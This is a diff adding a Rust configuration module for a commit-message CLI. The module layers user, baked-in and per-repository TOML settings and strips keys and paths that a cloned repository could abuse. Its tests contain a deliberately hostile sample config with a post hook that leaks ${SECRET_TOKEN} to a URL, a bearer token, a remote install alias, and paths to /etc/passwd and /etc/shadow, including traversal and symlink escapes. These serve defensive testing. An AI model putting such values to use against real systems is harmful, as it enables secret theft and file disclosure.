@@ -0,0 +1,723 @@
+use crate::bake;
+use crate::boost::Boost;
+use crate::bundle;
+use crate::cli;
+use crate::cowsay::Character;
+use crate::daily::DailyScope;
+use crate::error::ErrorFormat;
+use crate::escape::Escape;
+use crate::http::{Auth, NetworkPolicy};
+#[cfg(feature = "tui")]
+use crate::keys::KeyConfig;
+use crate::llm::LlmMode;
+use crate::normalize::Normalizer;
+use crate::output::ColorChoice;
+use crate::paths;
+use crate::rng::Backend;
+use crate::seasonal::Seasonal;
+use crate::signoff::Signoff;
+use crate::spice::Spice;
+use crate::theme::{ColorOverrides, ThemeName};
+use crate::transform::Transform;
+use anyhow::{bail, Context, Result};
+use serde::Deserialize;
+use std::collections::BTreeMap;
+use std::env;
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+use tracing::{debug, info, warn};
+
+/// Settings that can appear at the top level of the config file or inside a profile.
+///
+/// Every field is optional so that layers (command-line flags, the selected profile,
+/// top-level settings) can be merged with the first one that sets a value winning.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
+pub struct Options {
+    pub names: Option<PathBuf>,
+    pub names_from_git: Option<bool>,
+    pub weight_by_commits: Option<bool>,
+    pub commit_messages_template: Option<PathBuf>,
+    pub grammar: Option<PathBuf>,
+    pub team_corpus_url: Option<String>,
+    pub team_names_url: Option<String>,
+    pub proxy: Option<String>,
+    pub network_policy: Option<NetworkPolicy>,
+    pub auth: Option<Vec<Auth>>,
+    pub boost: Option<Vec<Boost>>,
+    pub llm: Option<LlmMode>,
+    pub llm_model: Option<String>,
+    pub llm_url: Option<String>,
+    pub no_default_corpus: Option<bool>,
+    pub mix: Option<String>,
+    pub blocklist: Option<PathBuf>,
+    pub quotes: Option<PathBuf>,
+    pub imperative: Option<bool>,
+    pub script: Option<PathBuf>,
+    pub commitlint: Option<PathBuf>,
+    pub rules: Option<PathBuf>,
+    pub format: Option<String>,
+    pub post: Option<Vec<String>>,
+    pub color: Option<ColorChoice>,
+    pub theme: Option<ThemeName>,
+    pub colors: Option<ColorOverrides>,
+    #[cfg(feature = "tui")]
+    pub keys: Option<KeyConfig>,
+    /// Key bindings, accepted but unused in builds without the `tui` feature
+    #[cfg(not(feature = "tui"))]
+    pub keys: Option<serde::de::IgnoredAny>,
+    pub plain: Option<bool>,
+    pub accessible: Option<bool>,
+    pub banner: Option<bool>,
+    pub cowsay: Option<Character>,
+    pub escape: Option<Escape>,
+    pub transform: Option<Vec<Transform>>,
+    pub normalize: Option<Vec<Normalizer>>,
+    pub no_emoji: Option<bool>,
+    pub wrap: Option<usize>,
+    pub co_author: Option<usize>,
+    pub signoff: Option<Signoff>,
+    pub replace: Option<BTreeMap<String, String>>,
+    pub errors: Option<ErrorFormat>,
+    pub spice: Option<Spice>,
+    pub clean: Option<bool>,
+    pub real_paths: Option<bool>,
+    pub consistent: Option<bool>,
+    pub haiku: Option<bool>,
+    pub mutate: Option<bool>,
+    pub seasonal: Option<Seasonal>,
+    pub no_easter_eggs: Option<bool>,
+    pub seed: Option<u64>,
+    pub daily: Option<DailyScope>,
+    pub rng: Option<Backend>,
+    pub notify: Option<bool>,
+    pub provenance: Option<bool>,
+    pub protected_branches: Option<Vec<String>>,
+    pub trusted_keys: Option<Vec<String>>,
+    pub offline: Option<bool>,
+    pub no_history: Option<bool>,
+    pub no_learn: Option<bool>,
+    pub usage_stats: Option<bool>,
+    pub history_max_entries: Option<usize>,
+    pub history_max_age_days: Option<u64>,
+}
+
+impl Options {
+    /// Fills every unset field from `other`.
+    pub fn or(self, other: Options) -> Options {
+        Options {
+            names: self.names.or(other.names),
+            names_from_git: self.names_from_git.or(other.names_from_git),
+            weight_by_commits: self.weight_by_commits.or(other.weight_by_commits),
+            commit_messages_template: self
+                .commit_messages_template
+                .or(other.commit_messages_template),
+            grammar: self.grammar.or(other.grammar),
+            team_corpus_url: self.team_corpus_url.or(other.team_corpus_url),
+            team_names_url: self.team_names_url.or(other.team_names_url),
+            proxy: self.proxy.or(other.proxy),
+            network_policy: self.network_policy.or(other.network_policy),
+            auth: self.auth.or(other.auth),
+            boost: self.boost.or(other.boost),
+            llm: self.llm.or(other.llm),
+            llm_model: self.llm_model.or(other.llm_model),
+            llm_url: self.llm_url.or(other.llm_url),
+            no_default_corpus: self.no_default_corpus.or(other.no_default_corpus),
+            mix: self.mix.or(other.mix),
+            blocklist: self.blocklist.or(other.blocklist),
+            quotes: self.quotes.or(other.quotes),
+            imperative: self.imperative.or(other.imperative),
+            script: self.script.or(other.script),
+            commitlint: self.commitlint.or(other.commitlint),
+            rules: self.rules.or(other.rules),
+            format: self.format.or(other.format),
+            post: self.post.or(other.post),
+            color: self.color.or(other.color),
+            theme: self.theme.or(other.theme),
+            colors: self.colors.or(other.colors),
+            keys: self.keys.or(other.keys),
+            plain: self.plain.or(other.plain),
+            accessible: self.accessible.or(other.accessible),
+            banner: self.banner.or(other.banner),
+            cowsay: self.cowsay.or(other.cowsay),
+            escape: self.escape.or(other.escape),
+            transform: self.transform.or(other.transform),
+            normalize: self.normalize.or(other.normalize),
+            no_emoji: self.no_emoji.or(other.no_emoji),
+            wrap: self.wrap.or(other.wrap),
+            co_author: self.co_author.or(other.co_author),
+            signoff: self.signoff.or(other.signoff),
+            replace: self.replace.or(other.replace),
+            errors: self.errors.or(other.errors),
+            spice: self.spice.or(other.spice),
+            clean: self.clean.or(other.clean),
+            real_paths: self.real_paths.or(other.real_paths),
+            consistent: self.consistent.or(other.consistent),
+            haiku: self.haiku.or(other.haiku),
+            mutate: self.mutate.or(other.mutate),
+            seasonal: self.seasonal.or(other.seasonal),
+            no_easter_eggs: self.no_easter_eggs.or(other.no_easter_eggs),
+            seed: self.seed.or(other.seed),
+            daily: self.daily.or(other.daily),
+            rng: self.rng.or(other.rng),
+            notify: self.notify.or(other.notify),
+            provenance: self.provenance.or(other.provenance),
+            protected_branches: self.protected_branches.or(other.protected_branches),
+            trusted_keys: self.trusted_keys.or(other.trusted_keys),
+            offline: self.offline.or(other.offline),
+            no_history: self.no_history.or(other.no_history),
+            no_learn: self.no_learn.or(other.no_learn),
+            usage_stats: self.usage_stats.or(other.usage_stats),
+            history_max_entries: self.history_max_entries.or(other.history_max_entries),
+            history_max_age_days: self.history_max_age_days.or(other.history_max_age_days),
+        }
+    }
+
+    /// The file paths, by their keys in `PATH_KEYS`.
+    fn paths_mut(&mut self) -> [(&'static str, &mut Option<PathBuf>); 8] {
+        [
+            ("names", &mut self.names),
+            (
+                "commit-messages-template",
+                &mut self.commit_messages_template,
+            ),
+            ("grammar", &mut self.grammar),
+            ("blocklist", &mut self.blocklist),
+            ("quotes", &mut self.quotes),
+            ("script", &mut self.script),
+            ("commitlint", &mut self.commitlint),
+            ("rules", &mut self.rules),
+        ]
+    }
+
+    /// Resolves relative file paths against `base` and expands a leading `~`.
+    fn resolve_paths(&mut self, base: &Path) {
+        for (_, path) in self.paths_mut() {
+            if let Some(path) = path {
+                *path = resolve_path(path, base);
+            }
+        }
+    }
+
+    /// Keeps the file paths that lead inside `root`, a canonical repository root, once
+    /// symlinks are followed, replacing them with where they lead. Drops the others and
+    /// returns their keys.
+    fn contain_paths(&mut self, root: &Path) -> Vec<&'static str> {
+        let mut dropped = Vec::new();
+        for (key, path) in self.paths_mut() {
+            if let Some(given) = path.take() {
+                *path = contained(&given, root);
+                if path.is_none() {
+                    dropped.push(key);
+                }
+            }
+        }
+        dropped
+    }
+}
+
+/// Keys whose values are file paths, resolved against the config file's directory.
+pub const PATH_KEYS: [&str; 8] = [
+    "names",
+    "commit-messages-template",
+    "grammar",
+    "blocklist",
+    "quotes",
+    "script",
+    "commitlint",
+    "rules",
+];
+
+/// Keys a per-repository config file may set, at the top level or in a profile: names,
+/// templates, filters and how messages look. The others can run code, reach the network,
+/// send credentials or weaken checks, so a checked-in file doesn't get to set them.
+pub const REPO_KEYS: [&str; 41] = [
+    "names",
+    "names-from-git",
+    "weight-by-commits",
+    "commit-messages-template",
+    "grammar",
+    "no-default-corpus",
+    "mix",
+    "blocklist",
+    "quotes",
+    "imperative",
+    "boost",
+    "format",
+    "color",
+    "theme",
+    "colors",
+    "keys",
+    "plain",
+    "accessible",
+    "banner",
+    "cowsay",
+    "escape",
+    "transform",
+    "normalize",
+    "no-emoji",
+    "wrap",
+    "co-author",
+    "signoff",
+    "replace",
+    "errors",
+    "spice",
+    "clean",
+    "real-paths",
+    "consistent",
+    "haiku",
+    "mutate",
+    "seasonal",
+    "no-easter-eggs",
+    "seed",
+    "daily",
+    "rng",
+    "provenance",
+];
+
+/// Whether `path`, as written in a per-repository config file, stays inside the
+/// repository: relative, without `~` and without `..`.
+fn inside_repo(path: &Path) -> bool {
+    (path.components()).all(|c| matches!(c, Component::Normal(_) | Component::CurDir))
+        && !path.starts_with("~")
+}
+
+/// Where `path` leads once symlinks are followed, if that is inside `root`, a canonical
+/// repository root. A path that doesn't exist can't be checked, so it isn't inside.
+pub fn contained(path: &Path, root: &Path) -> Option<PathBuf> {
+    path.canonicalize()
+        .ok()
+        .filter(|real| real.starts_with(root))
+}
+
+/// Drops the keys of `table` a per-repository config file may not set, and paths leading
+/// out of the repository, returning the keys dropped.
+fn restrict_to_repo(table: &mut toml::Table) -> Vec<String> {
+    let mut dropped = Vec::new();
+    table.retain(|key, value| {
+        let allowed = REPO_KEYS.contains(&key)
+            && !(PATH_KEYS.contains(&key)
+                && value
+                    .as_str()
+                    .is_some_and(|path| !inside_repo(Path::new(path))));
+        if !allowed {
+            dropped.push(key.to_string());
+        }
+        allowed
+    });
+    dropped
+}
+
+/// Fails on an entry of the `[[auth]]` tables at `key` that would send two
+/// `Authorization` headers, a bearer token and a user and password both.
+fn check_auth(options: &Options, key: &str) -> Result<()> {
+    for auth in options.auth.iter().flatten() {
+        if auth.bearer.is_some() && (auth.username.is_some() || auth.password.is_some()) {
+            bail!(
+                "The `[[{}]]` entry for {} sets both `bearer` and `username`/`password`; \
+                 only one `Authorization` header can be sent",
+                key,
+                auth.url
+            );
+        }
+    }
+    Ok(())
+}
+
+/// Expands a leading `~` in `path` and resolves it against `base` if it is relative.
+pub fn resolve_path(path: &Path, base: &Path) -> PathBuf {
+    if let Ok(rest) = path.strip_prefix("~") {
+        if let Some(home) = env::var_os("HOME") {
+            return PathBuf::from(home).join(rest);
+        }
+    }
+    base.join(path)
+}
+
+/// The parsed config file.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(default, rename_all = "kebab-case")]
+pub struct Config {
+    /// Profile to use when `--profile` is not given
+    pub profile: Option<String>,
+    /// Named bundles of settings selectable with `--profile`
+    pub profiles: BTreeMap<String, Options>,
+    /// Short names expanding to a set of command-line arguments
+    pub alias: BTreeMap<String, String>,
+    /// Top-level settings, parsed apart from the rest so that unknown keys are errors,
+    /// which they can't be in a flattened struct
+    #[serde(skip)]
+    pub options: Options,
+}
+
+impl Config {
+    /// Parses a config file's contents; relative paths are resolved against `base`.
+    pub fn parse(content: &str, base: &Path) -> Result<Self> {
+        Self::from_table(toml::from_str(content)?, base)
+    }
+
+    fn from_table(mut settings: toml::Table, base: &Path) -> Result<Self> {
+        let mut table = toml::Table::new();
+        for key in ["profile", "profiles", "alias"] {
+            if let Some(value) = settings.remove(key) {
+                table.insert(key.to_string(), value);
+            }
+        }
+        let mut config: Config = table.try_into()?;
+        config.options = settings.try_into()?;
+        config.options.resolve_paths(base);
+        check_auth(&config.options, "auth")?;
+        for (name, options) in &mut config.profiles {
+            options.resolve_paths(base);
+            check_auth(options, &format!("profiles.{}.auth", name))?;
+        }
+        Ok(config)
+    }
+
+    /// Parses a per-repository config file, keeping only `REPO_KEYS` at the top level and
+    /// in profiles, file paths leading inside `root`, and the aliases `alias_allowed`
+    /// accepts for the canonical root. Anything else is warned about and ignored, since
+    /// the file comes with whatever repository was cloned.
+    pub fn parse_repo(
+        content: &str,
+        root: &Path,
+        alias_allowed: fn(&str, &Path) -> bool,
+    ) -> Result<Self> {
+        let root = root
+            .canonicalize()
+            .with_context(|| format!("Failed to resolve the repository root {:?}", root))?;
+        let mut table: toml::Table = toml::from_str(content)?;
+        let mut dropped = Vec::new();
+        for (key, value) in table.iter_mut() {
+            match (key.as_str(), value) {
+                ("profiles", toml::Value::Table(profiles)) => {
+                    for (name, profile) in profiles.iter_mut() {
+                        if let toml::Value::Table(profile) = profile {
+                            let keys = restrict_to_repo(profile);
+                            dropped.extend(keys.iter().map(|k| format!("profiles.{}.{}", name, k)));
+                        }
+                    }
+                }
+                ("alias", toml::Value::Table(aliases)) => aliases.retain(|name, expansion| {
+                    let allowed = expansion.as_str().is_some_and(|e| alias_allowed(e, &root));
+                    if !allowed {
+                        dropped.push(format!("alias.{}", name));
+                    }
+                    allowed
+                }),
+                _ => {}
+            }
+        }
+        let structure = ["profile", "profiles", "alias"].map(|key| (key, table.remove(key)));
+        dropped.extend(restrict_to_repo(&mut table));
+        for (key, value) in structure {
+            if let Some(value) = value {
+                table.insert(key.to_string(), value);
+            }
+        }
+        let mut config = Self::from_table(table, &root)?;
+        dropped.extend(
+            config
+                .options
+                .contain_paths(&root)
+                .into_iter()
+                .map(String::from),
+        );
+        for (name, profile) in &mut config.profiles {
+            let keys = profile.contain_paths(&root);
+            dropped.extend(keys.iter().map(|k| format!("profiles.{}.{}", name, k)));
+        }
+        if !dropped.is_empty() {
+            warn!(
+                "Ignoring settings a repository's config file may not change: {}",
+                dropped.join(", ")
+            );
+        }
+        Ok(config)
+    }
+
+    /// Loads the config file at `path`, or the default location when `path` is `None`.
+    ///
+    /// A missing file at the default location is not an error.
+    pub fn load(path: Option<&Path>) -> Result<Self> {
+        let (path, explicit) = match path {
+            Some(path) => (path.to_path_buf(), true),
+            None => match paths::config_file() {
+                Some(path) => (path, false),
+                None => return Ok(Config::default()),
+            },
+        };
+
+        if !explicit && !path.exists() {
+            debug!("No config file at {:?}", path);
+            return Ok(Config::default());
+        }
+
+        let content = fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read config file: {:?}", path))?;
+        let base = path.parent().unwrap_or(Path::new("."));
+        let config = Self::parse(&content, base)
+            .with_context(|| format!("Failed to parse config file: {:?}", path))?;
+        info!("Loaded config from {:?}", path);
+        Ok(config)
+    }
+
+    /// Loads the user config file over any config baked into this binary, then layers the
+    /// per-repository config file over it.
+    pub fn load_all(path: Option<&Path>) -> Result<Self> {
+        let mut config = Self::load(path)?;
+        let baked = bake::dir().map(|dir| dir.join(bundle::CONFIG_FILE));
+        if let Some(baked) = baked.filter(|path| path.exists()) {
+            config = config.or(Self::load(Some(&baked))?);
+        }
+        let Some(repo_path) = paths::repo_config_file().filter(|path| path.exists()) else {
+            return Ok(config);
+        };
+        let content = fs::read_to_string(&repo_path)
+            .with_context(|| format!("Failed to read config file: {:?}", repo_path))?;
+        let root = repo_path.parent().unwrap_or(Path::new("."));
+        let repo = Self::parse_repo(&content, root, cli::repo_alias_allowed)
+            .with_context(|| format!("Failed to parse config file: {:?}", repo_path))?;
+        info!("Loaded repository config from {:?}", repo_path);
+        Ok(repo.or(config))
+    }
+
+    /// Layers this config over `other`: everything set here, including top-level
+    /// settings, wins over anything `other` sets, even within one of its profiles.
+    pub fn or(self, other: Config) -> Config {
+        let mut profiles = BTreeMap::new();
+        for (name, options) in other.profiles {
+            profiles.insert(name, self.options.clone().or(options));
+        }
+        for (name, options) in self.profiles {
+            let options = match profiles.remove(&name) {
+                Some(base) => options.or(base),
+                None => options,
+            };
+            profiles.insert(name, options);
+        }
+        let mut alias = other.alias;
+        alias.extend(self.alias);
+        Config {
+            profile: self.profile.or(other.profile),
+            profiles,
+            alias,
+            options: self.options.or(other.options),
+        }
+    }
+
+    /// Returns the effective settings for a profile, layered over the top-level settings.
+    pub fn options(&self, profile: Option<&str>) -> Result<Options> {
+        match profile.or(self.profile.as_deref()) {
+            None => Ok(self.options.clone()),
+            Some(name) => {
+                let profile = self.profiles.get(name).with_context(|| {
+                    let known: Vec<&str> = self.profiles.keys().map(|k| k.as_str()).collect();
+                    format!(
+                        "Unknown profile `{}` (known profiles: {})",
+                        name,
+                        if known.is_empty() {
+                            "none".to_string()
+                        } else {
+                            known.join(", ")
+                        }
+                    )
+                })?;
+                debug!("Using profile `{}`", name);
+                Ok(profile.clone().or(self.options.clone()))
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    const CONFIG: &str = r#"
+theme = "ocean"
+names = "names.txt"
+profile = "work"
+
+[profiles.work]
+commit-messages-template = "/srv/sfw.txt"
+theme = "mono"
+plain = true
+
+[profiles.fun]
+cowsay = "tux"
+
+[alias]
+demo = "--cowsay tux --seed 7"
+"#;
+
+    #[test]
+    fn t_parse_config_and_resolve_paths() {
+        let config = Config::parse(CONFIG, Path::new("/etc/wtc")).unwrap();
+        assert_eq!(
+            config.options.names,
+            Some(PathBuf::from("/etc/wtc/names.txt"))
+        );
+        assert_eq!(
+            config.profiles["work"].commit_messages_template,
+            Some(PathBuf::from("/srv/sfw.txt"))
+        );
+    }
+
+    #[test]
+    fn t_parse_aliases() {
+        let config = Config::parse(CONFIG, Path::new(".")).unwrap();
+        assert_eq!(config.alias["demo"], "--cowsay tux --seed 7");
+    }
+
+    #[test]
+    fn t_profile_layers_over_top_level() {
+        let config = Config::parse(CONFIG, Path::new("/etc/wtc")).unwrap();
+
+        let fun = config.options(Some("fun")).unwrap();
+        assert_eq!(fun.cowsay, Some(Character::Tux));
+        assert_eq!(fun.theme, Some(ThemeName::Ocean));
+
+        // The default profile applies when none is requested
+        let work = config.options(None).unwrap();
+        assert_eq!(work.theme, Some(ThemeName::Mono));
+        assert_eq!(work.plain, Some(true));
+        assert_eq!(work.names, Some(PathBuf::from("/etc/wtc/names.txt")));
+    }
+
+    #[test]
+    fn t_repo_config_layers_over_user_config() {
+        let user = Config::parse(CONFIG, Path::new("/home/me")).unwrap();
+        let repo = Config::parse(
+            "names = \"team.txt\"\ncowsay = \"ferris\"\n[profiles.work]\nplain = false\n[alias]\nx = \"-p fun\"\n",
+            Path::new("/src/project"),
+        )
+        .unwrap();
+        let config = repo.or(user);
+
+        let work = config.options(None).unwrap();
+        assert_eq!(work.names, Some(PathBuf::from("/src/project/team.txt")));
+        assert_eq!(work.plain, Some(false));
+        assert_eq!(work.theme, Some(ThemeName::Mono));
+        assert_eq!(config.alias.len(), 2);
+
+        // Top-level repo settings beat the user's own profiles
+        let fun = config.options(Some("fun")).unwrap();
+        assert_eq!(fun.cowsay, Some(Character::Ferris));
+    }
+
+    #[test]
+    fn t_repo_config_is_restricted() {
+        let repo = r#"
+names = "docs/team.txt"
+script = "x.lua"
+post = ["http://127.0.0.1:8765/hook?leak=${SECRET_TOKEN}"]
+trusted-keys = ["RWQ..."]
+blocklist = "../../etc/passwd"
+quotes = "/etc/shadow"
+cowsay = "tux"
+
+[[auth]]
+url = "http://127.0.0.1:8765"
+bearer = "${SECRET_TOKEN}"
+
+[profiles.work]
+theme = "mono"
+llm-url = "http://127.0.0.1:8765"
+
+[alias]
+fun = "--cowsay tux -p work --seed 7"
+run = "--script x.lua"
+hooked = "--seed 7 install http://127.0.0.1:8765/pack"
+leak = "--names /etc/passwd"
+short-leak = "-n/etc/passwd"
+mixed = "--mix /tmp/wtc_secret.txt=1"
+smuggled = "--plain paths"
+"#;
+        let root = env::temp_dir().join(format!("wtc-repo-config-{}", std::process::id()));
+        fs::create_dir_all(root.join("docs")).unwrap();
+        fs::write(root.join("docs/team.txt"), "Ann\n").unwrap();
+        let config = Config::parse_repo(repo, &root, cli::repo_alias_allowed).unwrap();
+        let team = root.join("docs/team.txt").canonicalize().unwrap();
+        fs::remove_dir_all(&root).unwrap();
+        assert_eq!(config.options.names, Some(team));
+        assert_eq!(config.options.cowsay, Some(Character::Tux));
+        assert_eq!(config.options.script, None);
+        assert_eq!(config.options.post, None);
+        assert_eq!(config.options.auth, None);
+        assert_eq!(config.options.trusted_keys, None);
+        assert_eq!(config.options.blocklist, None);
+        assert_eq!(config.options.quotes, None);
+        assert_eq!(config.profiles["work"].theme, Some(ThemeName::Mono));
+        assert_eq!(config.profiles["work"].llm_url, None);
+        assert_eq!(config.alias.keys().collect::<Vec<_>>(), ["fun"]);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn t_repo_paths_must_resolve_inside() {
+        use std::os::unix::fs::symlink;
+        let dir = env::temp_dir().join(format!("wtc-repo-links-{}", std::process::id()));
+        let (root, outside) = (dir.join("repo"), dir.join("secret.txt"));
+        fs::create_dir_all(root.join("docs")).unwrap();
+        fs::write(&outside, "hunter2\n").unwrap();
+        fs::write(root.join("docs/team.txt"), "Ann\n").unwrap();
+        symlink(&outside, root.join("docs/leak.txt")).unwrap();
+        symlink(root.join("docs/team.txt"), root.join("team.txt")).unwrap();
+        symlink(&dir, root.join("up")).unwrap();
+
+        let repo = r#"
+names = "team.txt"
+commit-messages-template = "docs/leak.txt"
+grammar = "up/secret.txt"
+quotes = "docs/missing.txt"
+
+[profiles.work]
+blocklist = "docs/leak.txt"
+names = "docs/team.txt"
+"#;
+        let config = Config::parse_repo(repo, &root, cli::repo_alias_allowed).unwrap();
+        let team = root.join("docs/team.txt").canonicalize().unwrap();
+        fs::remove_dir_all(&dir).unwrap();
+        assert_eq!(config.options.names, Some(team.clone()));
+        assert_eq!(config.options.commit_messages_template, None);
+        assert_eq!(config.options.grammar, None);
+        assert_eq!(config.options.quotes, None);
+        assert_eq!(config.profiles["work"].blocklist, None);
+        assert_eq!(config.profiles["work"].names, Some(team));
+    }
+
+    #[test]
+    fn t_unknown_profile_is_an_error() {
+        let config = Config::parse(CONFIG, Path::new(".")).unwrap();
+        let err = config.options(Some("nope")).unwrap_err();
+        assert!(err.to_string().contains("known profiles: fun, work"));
+    }
+
+    #[test]
+    fn t_unknown_keys_are_errors() {
+        for content in ["colour = \"never\"\n", "[profiles.fun]\nthme = \"ocean\"\n"] {
+            let err = Config::parse(content, Path::new(".")).unwrap_err();
+            assert!(format!("{:#}", err).contains("unknown field"), "{:#}", err);
+        }
+        assert!(Config::parse("profile = \"fun\"\n[alias]\nx = \"-q\"\n", Path::new(".")).is_ok());
+    }
+
+    #[test]
+    fn t_auth_with_two_authorizations_is_an_error() {
+        let both = "url = \"https://corp.example.com/\"\nbearer = \"t\"\nusername = \"ci\"\n";
+        for content in [
+            format!("[[auth]]\n{}", both),
+            format!("[[profiles.work.auth]]\n{}", both),
+        ] {
+            let err = format!("{:#}", Config::parse(&content, Path::new(".")).unwrap_err());
+            assert!(err.contains("https://corp.example.com/"), "{}", err);
+            assert!(err.contains("both `bearer` and"), "{}", err);
+        }
+        assert!(Config::parse(
+            "[[auth]]\nurl = \"https://corp.example.com/\"\nbearer = \"t\"\n",
+            Path::new(".")
+        )
+        .is_ok());
+    }
+}